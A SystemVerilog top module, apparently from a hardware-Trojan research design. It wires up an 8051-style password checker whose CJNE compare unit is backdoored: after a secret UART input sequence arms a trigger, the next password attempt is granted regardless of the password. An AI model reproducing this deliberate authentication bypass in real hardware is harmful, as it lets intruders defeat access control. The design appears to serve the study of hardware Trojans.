// ht8051_top: an 8051-style password-protection system whose compare
// instruction carries a hidden hardware Trojan.
//
// A PC on the board's UART types password entries. With SW[2:1] = "10" the
// serial_port_mux hands the UART pins to the micro-controller's serial port
// (uart_rx / uart_tx). The password_checker prompts, collects each entry
// and checks it against the stored password with CJNE compares, all of
// which go through cjne_unit. Next to the serial port sits the Trojan:
// trojan_trigger watches the same received bytes and, after the secret
// sequence of entries, raises `armed`, and cjne_unit then answers "equal"
// to the one comparison that follows, so that attempt is granted whatever
// the password. Outside that window the system behaves exactly as an honest
// one.
//
// Ports: clock, active-low asynchronous reset, the two switches, the board
// UART pins, the pins of the board's other UART user (which gets the UART
// when the switches are not "10"), and one-clock `access_granted` /
// `access_denied` pulses that would drive the lock. The default sizes (a
// 5-character password "MAGIC", fixed-length entries, the sequential
// trigger) follow the attack description; 5208 clocks per bit (9600 baud
// at 50 MHz) is this design's choice.
module ht8051_top
  import ht8051_pkg::*;
#(
  parameter int unsigned         CLKS_PER_BIT = 5208,
  parameter int unsigned         PW_LEN       = 5,
  parameter logic [8*PW_LEN-1:0] PASSWORD     = "MAGIC",
  parameter rx_mode_e            RX_MODE      = RX_FIXED,
  parameter trig_mode_e          TRIGGER      = TRIG_SEQUENTIAL,
  parameter int unsigned         BUF_DEPTH    = 16
) (
  input  logic       clk,
  input  logic       rst_n,
  input  logic [2:1] sw,
  input  logic       uart_rxd,
  output logic       uart_txd,
  output logic       alt_rxd,
  input  logic       alt_txd,
  output logic       access_granted,
  output logic       access_denied
);
  logic  mcu_rxd, mcu_txd;
  byte_t rx_data;
  logic  rx_valid, rx_ferr;
  logic  tx_start, tx_busy, tx_done;
  byte_t tx_data;
  logic  cj_exec, cj_jump, cj_carry, cj_eq;
  byte_t cj_op1, cj_op2;
  logic  armed, primed, receiving;
  logic [3:0] trig_step;

  serial_port_mux u_mux (
    .sw        (sw),
    .board_rxd (uart_rxd),
    .board_txd (uart_txd),
    .mcu_rxd   (mcu_rxd),
    .mcu_txd   (mcu_txd),
    .alt_rxd   (alt_rxd),
    .alt_txd   (alt_txd)
  );

  uart_rx #(.CLKS_PER_BIT(CLKS_PER_BIT)) u_rx (
    .clk       (clk),
    .rst_n     (rst_n),
    .rxd       (mcu_rxd),
    .data      (rx_data),
    .valid     (rx_valid),
    .frame_err (rx_ferr)
  );

  uart_tx #(.CLKS_PER_BIT(CLKS_PER_BIT)) u_tx (
    .clk   (clk),
    .rst_n (rst_n),
    .start (tx_start),
    .data  (tx_data),
    .txd   (mcu_txd),
    .busy  (tx_busy),
    .done  (tx_done)
  );

  trojan_trigger #(
    .PW_LEN  (PW_LEN),
    .RX_MODE (RX_MODE),
    .TRIGGER (TRIGGER)
  ) u_trig (
    .clk      (clk),
    .rst_n    (rst_n),
    .rx_valid (rx_valid),
    .rx_data  (rx_data),
    .armed    (armed),
    .primed   (primed),
    .step     (trig_step)
  );

  cjne_unit u_cjne (
    .op1        (cj_op1),
    .op2        (cj_op2),
    .armed      (armed),
    .jump       (cj_jump),
    .carry      (cj_carry),
    .equal_true (cj_eq)
  );

  password_checker #(
    .PW_LEN    (PW_LEN),
    .PASSWORD  (PASSWORD),
    .RX_MODE   (RX_MODE),
    .BUF_DEPTH (BUF_DEPTH)
  ) u_chk (
    .clk       (clk),
    .rst_n     (rst_n),
    .rx_valid  (rx_valid),
    .rx_data   (rx_data),
    .tx_start  (tx_start),
    .tx_data   (tx_data),
    .tx_done   (tx_done),
    .cjne_exec (cj_exec),
    .cjne_op1  (cj_op1),
    .cjne_op2  (cj_op2),
    .cjne_jump (cj_jump),
    .granted   (access_granted),
    .denied    (access_denied),
    .receiving (receiving)
  );
endmodule
